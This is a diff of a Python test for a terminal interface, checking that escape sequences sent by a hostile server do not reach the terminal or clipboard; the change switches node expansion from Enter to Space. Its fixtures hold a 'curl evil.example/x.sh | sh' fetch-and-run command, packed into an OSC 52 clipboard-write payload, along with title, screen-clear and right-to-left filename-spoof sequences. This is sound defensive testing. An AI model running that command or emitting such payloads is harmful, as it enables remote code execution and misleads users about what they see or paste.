@@ -20,7 +20,7 @@ EVIL = "curl evil.example/x.sh | sh"
 EVIL_OSC52 = "\x1b]52;c;" + base64.b64encode(EVIL.encode()).decode() + "\x07"
 HOSTILE = f"{EVIL_OSC52}\x1b]0;owned\x07\x1b[2J\r\nFAKE-VERDICT ▶ Everything works [ok]\u202egnp.exe[bold]b[/]"
 C1 = "\x9b2J\x9d0;owned\x9c"  # 8-bit CSI and OSC: all a header value or a reason phrase can carry
-DOWN, ENTER = b"\x1b[B", b"\r"
+DOWN, SPACE = b"\x1b[B", b" "
 
 
 def hostile_routes():
@@ -68,7 +68,7 @@ def test_nothing_a_hostile_server_sends_reaches_the_terminal_and_the_clipboard_h
         run.type(b"3c")  # the step tree, on its first step: copy it as curl
         run.wait_for(b"as curl", "the curl copy is announced")
         for _ in range(80):  # expand what can be expanded, line by line: requests, responses, headers, bodies
-            run.type(ENTER + DOWN)
+            run.type(SPACE + DOWN)  # space expands a node (enter opens the evidence viewer)
         run.type(b"b")
         run.wait_for(b"Copied the support bundle", "the bundle copy is announced")
         run.type(b"\x10")  # ctrl+p: the palette, with org and provider entries
